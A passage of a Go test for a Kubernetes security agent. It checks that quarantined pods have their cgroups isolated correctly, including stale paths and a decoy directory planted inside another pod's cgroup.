	r := startAgent(t, ns+"-node", newFakeManager(t), conts, func(c *sensor.Config, _ *sensor.Backends) {
		c.CgroupRoot = root
		c.EnforceResync = time.Hour
		c.ScanInterval = 20 * time.Millisecond
	})
	waitFor(t, "the start-up reconcile", func() bool { _, _, n := r.enf.state(); return n > 0 })
	// A second scan has begun: the first one's pod cgroups are stored.
	waitFor(t, "a container scan", func() bool { return conts.scanCount() >= 2 })
	isolate := func(pod string) {
		q := &securityv1alpha1.Quarantine{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "q-" + pod},
			Spec: securityv1alpha1.QuarantineSpec{
				Target:  securityv1alpha1.Target{Kind: securityv1alpha1.TargetPod, Name: pod},
				Actions: []securityv1alpha1.Action{{Type: securityv1alpha1.ActionIsolate}},
			}}
		if err := env.Client.Create(ctx, q); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range pods {
		isolate(p.Name)
	}
	waitFor(t, "every pod isolated", func() bool { iso, _, _ := r.enf.state(); return len(iso) == n })
	iso, _, _ := r.enf.state()
	for _, p := range pods {
		want := filepath.Dir(cgroups.ContainerPath(cgroups.Systemd, "burstable", string(p.UID), "containerd", strings.Repeat("0", 64)))
		if _, ok := iso[want]; !ok {
			t.Errorf("pod %s: its cgroup %s is not among the isolated %v", p.Name, want, iso)
		}
	}
	if w := conts.walkCount(); w != 0 {
		t.Errorf("%d cgroup walks for pods the container scan knew", w)
	}

	// A pod whose scanned cgroup is gone by the time it is quarantined is
	// found by a walk, not isolated at the stale path.
	p := runningPod(t, ns, "shop-stale", ns+"-node", "c-scanned-stale", "", nil)
	c := conts.addAt(cgroups.ContainerPath(cgroups.Systemd, "burstable", string(p.UID), "containerd", nodekit.RandHex(64)), string(p.UID))
	if err := os.MkdirAll(filepath.Join(root, c.Path), 0o755); err != nil {
		t.Fatal(err)
	}
	scans := conts.scanCount()
	waitFor(t, "two more container scans", func() bool { return conts.scanCount() >= scans+2 })
	if err := os.RemoveAll(filepath.Join(root, filepath.Dir(c.Path))); err != nil {
		t.Fatal(err)
	}
	isolate(p.Name)
	waitFor(t, "the stale pod isolated where the walk found it", func() bool {
		iso, _, _ := r.enf.state()
		_, ok := iso[podPath(string(p.UID))]
		return ok
	})
	if conts.walkCount() == 0 {
		t.Error("no cgroup walk for a pod whose scanned cgroup is gone")
	}

	// A directory shaped like a pod's cgroup, made inside another pod's,
	// does not decide where a pod is isolated: a UID with two pod cgroups
	// is left to the walk.
	p = runningPod(t, ns, "shop-decoy", ns+"-node", "c-scanned-decoy", "", nil)
	real := conts.addAt(cgroups.ContainerPath(cgroups.Systemd, "burstable", string(p.UID), "containerd", nodekit.RandHex(64)), string(p.UID))
	decoy := conts.addAt(filepath.Dir(cgroups.ContainerPath(cgroups.Systemd, "burstable", string(pods[0].UID), "containerd", strings.Repeat("0", 64)))+"/"+
		cgroups.ContainerPath(cgroups.Systemd, "burstable", string(p.UID), "containerd", nodekit.RandHex(64)), string(p.UID))
	for _, c := range []string{real.Path, decoy.Path} {
		if err := os.MkdirAll(filepath.Join(root, c), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	scans = conts.scanCount()
	waitFor(t, "two more container scans", func() bool { return conts.scanCount() >= scans+2 })
	isolate(p.Name)
	waitFor(t, "the pod with a decoy isolated where the walk found it", func() bool {
		iso, _, _ := r.enf.state()
		_, ok := iso[podPath(string(p.UID))]
		return ok
	})
	if iso, _, _ := r.enf.state(); len(iso) != n+2 {
		t.Errorf("isolated %v, want the %d pods and no decoy", iso, n+2)
	}
}
